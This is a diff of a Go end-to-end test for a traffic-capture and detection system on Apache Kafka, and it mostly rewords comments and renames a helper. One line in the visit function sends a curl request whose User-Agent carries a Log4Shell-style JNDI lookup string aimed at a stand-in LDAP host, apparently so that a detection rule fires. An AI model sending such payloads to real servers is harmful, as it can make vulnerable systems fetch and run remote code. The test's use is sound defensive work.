@@ -48,18 +48,20 @@ logs:
 `
 )
 
-// kafkaSetup is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines and a collector as processes of
-// their own, and the world outside behind eth0. There is no dockerd: the test writes the containers' log files.
+// kafkaSetup is tidegate on Apache Kafka: a namespace with the broker, the embedded ClickHouse, two engines
+// and a collector as separate processes, and the outside behind eth0. There is no dockerd: the test writes
+// the log files of the containers.
 type kafkaSetup struct {
 	*e2eSystem
 	libs string
 	logs []*logWriter
 	stop chan struct{}
 	done sync.WaitGroup
-	hold sync.RWMutex // nobody rotates while it is taken
+	hold sync.RWMutex // held while no log may be rotated
 }
 
-// kafkaLibs finds Kafka's jars, which deploy/setup-test.sh fetches. Where CI is set they have to be there.
+// kafkaLibs returns the folder of the jars of Kafka, which deploy/setup-test.sh fetches. Where CI is set they
+// must exist.
 func kafkaLibs(t *testing.T) string {
 	t.Helper()
 	missing := t.Skipf
@@ -108,7 +110,7 @@ func newKafkaSetup(t *testing.T) *kafkaSetup {
 		}
 		return ""
 	})
-	k.requireNoStrayProcesses()
+	k.requireNoFailure()
 	k.start("analyze", nil, "analyze")
 	return k
 }
@@ -145,7 +147,7 @@ func (k *kafkaSetup) startCollector() {
 	k.waitMetric(9464, `tidegate_capture_workers{interface="eth0"}`, 1)
 }
 
-// end stops what still runs: first those that speak to others.
+// end stops the processes that still run, clients before servers.
 func (k *kafkaSetup) end() {
 	select {
 	case <-k.stop:
@@ -162,15 +164,15 @@ func (k *kafkaSetup) end() {
 	k.terminate(order...)
 }
 
-// requireNoStrayProcesses ends the test where something has gone wrong already: what comes after would only wait.
-func (k *kafkaSetup) requireNoStrayProcesses() {
+// requireNoFailure ends the test if it has failed already: the following steps would only wait.
+func (k *kafkaSetup) requireNoFailure() {
 	k.t.Helper()
 	if k.t.Failed() {
 		k.t.FailNow()
 	}
 }
 
-// waitKill waits until a process has killed itself at its seam.
+// waitKill waits until a process has killed itself at its failpoint.
 func (k *kafkaSetup) waitKill(name string) {
 	k.t.Helper()
 	cmd := k.procs[name]
@@ -180,15 +182,15 @@ func (k *kafkaSetup) waitKill(name string) {
 	}
 }
 
-// A logWriter writes the log of one container as dockerd does, and rotates it.
+// A logWriter writes and rotates the log of one container as dockerd does.
 type logWriter struct {
 	k      *kafkaSetup
 	id     string
 	dir    string
-	rotate int // after so many lines
-	keep   int // files, the open one among them
+	rotate int // lines of a file
+	keep   int // files, including the open one
 	lines  atomic.Int64
-	caught atomic.Int64 // of them a rule catches
+	caught atomic.Int64 // lines that match a rule
 }
 
 func (k *kafkaSetup) writer(n, rotate, keep int) {
@@ -238,7 +240,7 @@ func (w *logWriter) run() error {
 			if n == 1 {
 				from = path
 			}
-			_ = os.Rename(from, fmt.Sprintf("%s.%d", path, n)) // those that are not there yet are no error
+			_ = os.Rename(from, fmt.Sprintf("%s.%d", path, n)) // the first rotations find no older files
 		}
 		f, err = open()
 		w.k.hold.RUnlock()
@@ -248,15 +250,16 @@ func (w *logWriter) run() error {
 	}
 }
 
-// visit sends n requests from outside, and one that a rule catches.
+// visit sends n requests from outside, and one that matches a rule.
 func (k *kafkaSetup) visit(name string, n int) {
 	k.t.Helper()
 	k.must(k.visitor(workload{Case: name, N: n, HTTP: hostIP + ":8080", Every: 5 * time.Millisecond}))
 	k.must(k.outside("curl", "-sf", "-A", "${jndi:ldap://192.0.2.66/a}", "http://"+hostIP+":8080/probe/"+name))
 }
 
-// TestKafka is the same engine and collector on Apache Kafka: two engines share the partitions of a group; both are killed, one at the
-// seams of a block; so are the collector and the broker. Logs never stop; clients of the wire pause around the collector's kill.
+// TestKafka runs engine and collector on Apache Kafka. Two engines share the partitions of a group; both are
+// killed, one of them at failpoints of a block, and so are the collector and the broker. Logs are written
+// without a pause; clients pause while the collector is down.
 func TestKafka(t *testing.T) {
 	if testing.Short() {
 		t.Skip("it starts Apache Kafka")
@@ -293,8 +296,8 @@ func TestKafka(t *testing.T) {
 	k.waitKafka()
 	visit()
 
-	time.Sleep(2 * time.Second) // what was seen on the wire is acknowledged or in the spool; nobody sends
-	k.hold.Lock()               // what is deleted while no collector runs is lost to anybody
+	time.Sleep(2 * time.Second) // captured traffic is acknowledged or spooled; no client sends
+	k.hold.Lock()               // a file that is deleted while no collector runs is lost
 	acked := metric(k.metrics(9464), "tidegate_collector_events_safe_total")
 	k.kill("collect")
 	k.startCollector()
@@ -305,19 +308,19 @@ func TestKafka(t *testing.T) {
 	close(k.stop)
 	k.done.Wait()
 
-	k.requireNoStrayProcesses()
+	k.requireNoFailure()
 	k.verdicts(visits, n)
 	k.expectAtLeast("what was acknowledged is there", `SELECT count() FROM events`, acked)
 }
 
-// expect is that of a system, but does not go on after a failure.
+// expect is e2eSystem.expect, but ends the test after a failure.
 func (k *kafkaSetup) expect(what, sql string, want ...string) {
 	k.t.Helper()
 	k.e2eSystem.expect(what, sql, want...)
-	k.requireNoStrayProcesses()
+	k.requireNoFailure()
 }
 
-// verdicts compares the truth with what is stored.
+// verdicts compares the stored verdicts with the visits that were made.
 func (k *kafkaSetup) verdicts(visits, n int) {
 	k.t.Helper()
 	for i := range visits {
